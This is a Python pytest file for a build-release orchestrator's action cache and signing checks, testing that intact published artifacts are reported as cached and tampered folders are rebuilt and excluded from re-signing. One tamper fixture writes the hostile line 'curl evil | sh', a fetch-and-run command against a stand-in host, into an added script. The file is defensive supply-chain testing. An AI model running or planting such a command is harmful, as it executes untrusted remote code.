"""The action cache: a release does not build a target again while its published artifact
is current (the same action key, its binaries and signatures intact), and says so: in the
run (`cached`) and in the dry run (no steps); release.json lists it as published."""

from __future__ import annotations

import hashlib
import io
from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

import orchestrator.release.run as release_run
import orchestrator.release.targets.target as release_target
from orchestrator.cli.release_common import closing_lines
from orchestrator.config.resolve.options import FlavorSettings, Options
from orchestrator.errors import ConfigError
from orchestrator.execute.ship.release_index import update_release_index
from orchestrator.model.documents.records import BuildManifest, read_record
from orchestrator.model.documents.release_summary import ReleaseSummary
from orchestrator.model.documents.run_logs import TARGET_RUNS
from orchestrator.plan.build_plan import BuildPlan
from orchestrator.plan.serialize import action_key
from orchestrator.release.dry_run import dry_run
from orchestrator.release.run import RELEASE_JSON, run_release, run_report
from orchestrator.release.targets.action_cache import look_up
from orchestrator.release.targets.release_view import ReleaseView
from orchestrator.release.targets.target import targets
from orchestrator.supply.attest import ReleaseIndex, Signer
from orchestrator.supply.chain import ReleaseKeyError, check_signing_key
from orchestrator.supply.minisign import SecretKey
from orchestrator.supply.verify import verify_release

from .conftest import plan_for
from .execute_rig import make_options
from .fakes import FakeEngine
from .publish_rig import extract_and_publish, ready_to_publish


@pytest.fixture
def signer() -> Signer:
    return Signer(SecretKey.generate(), throwaway=False, source="test key")


@pytest.fixture
def published(project: Path, tmp_path: Path, signer: Signer) -> tuple[Options, BuildPlan, Path]:
    """A target built and published once (through the fake Engine)."""
    options = make_options(project, binaries=("demo", "democtl"))
    with ExitStack() as stack:
        rig = ready_to_publish(options, stack, tmp_path, signer)
        rig.pipeline.state.others = {"democtl": "/build/out/bin/optimized/democtl"}
        extract_and_publish(rig)
    plan = rig.pipeline.plan
    return options, plan, options.artifacts_dir / plan.release_dir / plan.artifact_dir


# -- the key -------------------------------------------------------------------------------
def test_the_key_follows_what_is_built_and_checked_not_where_it_goes(project: Path) -> None:
    options = make_options(project)
    key = action_key(plan_for(options), options)
    assert action_key(plan_for(options), options) == key
    for unchanged in (
        replace(options, bench_runs=99, bench_command=("x",), artifacts_dir=Path("/elsewhere")),
        replace(options, flavors=("cpu", "cuda")),
    ):
        assert action_key(plan_for(unchanged), unchanged) == key
    for changed in (
        replace(options, validate_tolerance=0.5),  # checked, not built: still part of it
        replace(options, workloads=(*options.workloads, options.workloads[0])),
        replace(options, distro_check="off"),
        replace(options, target_cpu="x86-64-v3"),
    ):
        assert action_key(plan_for(changed), changed) != key


def test_one_flavors_settings_change_only_that_flavors_key(project: Path) -> None:
    options = make_options(project)
    keys = {name: action_key(plan_for(options, name), options) for name in ("cpu", "aarch64")}
    aarch64 = replace(options, flavor_settings={"aarch64": FlavorSettings(features=("simd",))})
    assert action_key(plan_for(aarch64, "cpu"), aarch64) == keys["cpu"]
    assert action_key(plan_for(aarch64, "aarch64"), aarch64) != keys["aarch64"]


# -- a lookup ------------------------------------------------------------------------------
def test_a_current_artifact_is_a_hit_and_everything_else_a_miss_with_its_reason(
    published: tuple[Options, BuildPlan, Path], signer: Signer
) -> None:
    options, plan, artifact = published
    key = action_key(plan, options)
    lookup = look_up(artifact, key, signer.key.public)
    assert lookup.hit, lookup.reason
    assert read_record(artifact / "build.json", BuildManifest).action_key == key
    assert look_up(artifact, "0" * 64, signer.key.public).reason == "its inputs changed"
    assert look_up(artifact.parent / "other", key, None).reason == "not built yet"
    with pytest.raises(ReleaseKeyError, match="is signed by key") as refused:
        look_up(artifact, key, SecretKey.generate().public)  # another key re-signs nothing
    assert refused.value.exit_code == 66
    assert look_up(artifact, key, None).hit  # a dry run checks under the release's own key
    (artifact / "democtl").write_bytes(b"tampered")
    assert look_up(artifact, key, None).reason == (
        f"it does not match the signed release: {plan.artifact_dir}/democtl is not the file "
        "that was signed"
    )


def _recompute_sums(folder: Path) -> None:
    """What a tamperer does after editing a folder: `sha256sum` over it again."""
    lines = [
        f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.relative_to(folder).as_posix()}"
        for path in sorted(folder.rglob("*"))
        if path.is_file() and path.name != "SHA256SUMS"
    ]
    (folder / "SHA256SUMS").write_text("\n".join(lines) + "\n")


@pytest.mark.parametrize("recompute", [True, False], ids=["sums-recomputed", "sums-as-signed"])
@pytest.mark.parametrize("tamper", ["extra-file", "edited-build-json"])
def test_a_tampered_folder_is_never_cached_nor_signed_again(
    published: tuple[Options, BuildPlan, Path], signer: Signer, tamper: str, recompute: bool
) -> None:
    """The laundering recipe: edit a published folder (and, to hide it, recompute its
    SHA256SUMS): the target is a miss that says why, and signing the index again leaves
    the folder out, so `verify` still names what nobody signed."""
    options, plan, artifact = published
    key = action_key(plan, options)
    if tamper == "extra-file":
        (artifact / "extra.sh").write_text("curl evil | sh\n")
    else:
        record = artifact / "build.json"
        record.write_text(record.read_text() + " ")  # still a valid build.json
    if recompute:
        _recompute_sums(artifact)
    lookup = look_up(artifact, key, signer.key.public)
    assert not lookup.hit
    expected = (
        "SHA256SUMS is not the one that was signed"
        if recompute
        else ("extra.sh is not under any signature" if tamper == "extra-file" else "build.json")
    )
    assert expected in lookup.reason
    signed = update_release_index(artifact.parent, signer)
    archive = f"{plan.artifact_dir}.tar.xz"  # goes with its folder
    assert signed.left_out == [
        f"{plan.artifact_dir}/: {lookup.reason.split(': ', 1)[1]}",
        *(
            f"{name}: the artifact folder {plan.artifact_dir} is not signed"
            for name in (archive, f"{archive}.minisig")
        ),
    ]
    listed = (artifact.parent / "SHA256SUMS").read_text()
    assert plan.artifact_dir not in listed
    checks, _ = verify_release(artifact.parent, None)
    assert not all(check.ok for check in checks)


def test_a_file_added_beside_the_folders_is_not_signed_but_the_callers_own_is(
    published: tuple[Options, BuildPlan, Path], signer: Signer
) -> None:
    _options, plan, artifact = published
    release = artifact.parent
    (release / "extra.sh").write_text("echo hi\n")
    (release / "bench").mkdir()
    (release / "bench" / "bench.json").write_text("{}\n")
    signed = update_release_index(release, signer, vouched=("bench",))
    assert signed.left_out == ["extra.sh: not under any signature (added after publication)"]
    listed = (release / "SHA256SUMS").read_text()
    assert "bench/bench.json" in listed and "extra.sh" not in listed
    assert f"{plan.artifact_dir}/SHA256SUMS" in listed  # the untouched folder is signed again
    # once signed, the caller's file is vouched for by the chain: no need to name it again
    assert update_release_index(release, signer).left_out == signed.left_out


# -- a release -----------------------------------------------------------------------------
def _release(options: Options, signer: Signer, lines: list[str], **flags: Any) -> list[Any]:
    return run_release(
        ReleaseView.from_options(options),
        [(targets(options, ["cpu"])[0], plan_for(options))],
        FakeEngine(),  # type: ignore[arg-type]
        Console(file=io.StringIO()),
        signer,
        retrain=flags.get("retrain", False),
        bench_runs=0,
        announce=lines.append,
        force=flags.get("force", False),
    )


def test_a_release_reports_a_current_target_as_cached_and_builds_nothing(
    published: tuple[Options, BuildPlan, Path],
    signer: Signer,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    options, plan, artifact = published
    built: list[str] = []

    def run_build(*_args: Any, **_kwargs: Any) -> Any:
        built.append("built")
        raise ConfigError("stop here")

    monkeypatch.setattr(release_target, "run_build", run_build)
    monkeypatch.setattr(release_run, "update_release_index", lambda *_a, **_k: ReleaseIndex([], []))
    monkeypatch.setattr(release_run, "prepare_plan", plan_for)  # the stand-in sources
    lines: list[str] = []
    (result,) = _release(options, signer, lines)
    assert built == []
    assert result.status == "cached"
    manifest = read_record(artifact / "build.json", BuildManifest)
    assert (result.sha256, result.size) == (manifest.artifact.sha256, manifest.artifact.size)
    assert any(f"{plan.artifact_dir}: cached, inputs unchanged since" in line for line in lines)
    report = run_report(
        ReleaseView.from_options(options), [result], signer, seconds=1.0, lockfile=None
    )
    assert [target.status for target in report.targets] == ["cached"] and report.failed == []
    out = Console(file=io.StringIO(), width=300)
    closing_lines(report, out)
    assert "1 of 1 targets ok, 1 cached (inputs unchanged, not built again)" in str(
        out.file.getvalue()  # type: ignore[attr-defined]
    )
    summary = read_record(artifact.parent / RELEASE_JSON, ReleaseSummary)
    assert [entry.artifact for entry in summary.artifacts] == [plan.artifact_dir]
    assert not (artifact.parent / TARGET_RUNS).exists()  # nothing built: no run recorded
    # The dry run lists no steps for it, and says why.
    (planned,) = dry_run(ReleaseView.from_options(options), targets(options, ["cpu"]), [])
    assert planned.cached.artifact and planned.entry().steps == []
    # --force and --retrain build it; so does a changed input.
    for flags in ({"force": True}, {"retrain": True}):
        (result,) = _release(options, signer, lines, **flags)
        assert result.status == "failed"
    assert built == ["built", "built"]
    changed = replace(options, validate_tolerance=0.25)
    (result,) = _release(changed, signer, lines)
    assert result.status == "failed" and len(built) == 3
    assert "  building: its inputs changed" in lines


def test_a_release_rebuilds_a_tampered_target_and_says_why(
    published: tuple[Options, BuildPlan, Path],
    signer: Signer,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    options, _plan, artifact = published
    built: list[str] = []

    def run_build(*_args: Any, **_kwargs: Any) -> Any:
        built.append("built")
        raise ConfigError("stop here")

    monkeypatch.setattr(release_target, "run_build", run_build)
    monkeypatch.setattr(release_run, "prepare_plan", plan_for)
    (artifact / "extra.sh").write_text("echo hi\n")
    _recompute_sums(artifact)
    lines: list[str] = []
    (result,) = _release(options, signer, lines)
    assert built == ["built"] and result.status == "failed"
    assert any(
        "building: it does not match the signed release: " in line
        and "SHA256SUMS is not the one that was signed" in line
        for line in lines
    ), lines
    # The folder is still there, untouched by this failed run: the index leaves it out.
    assert any(line.startswith("warning: not signed again: ") for line in lines), lines
    assert artifact.name not in (artifact.parent / "SHA256SUMS").read_text()


def test_a_release_signed_by_another_key_is_refused_before_anything_is_built(
    published: tuple[Options, BuildPlan, Path],
) -> None:
    _options, _plan, artifact = published
    with pytest.raises(ReleaseKeyError) as refused:
        check_signing_key(artifact.parent, SecretKey.generate().public)
    assert "is signed by key" in refused.value.message and refused.value.hint
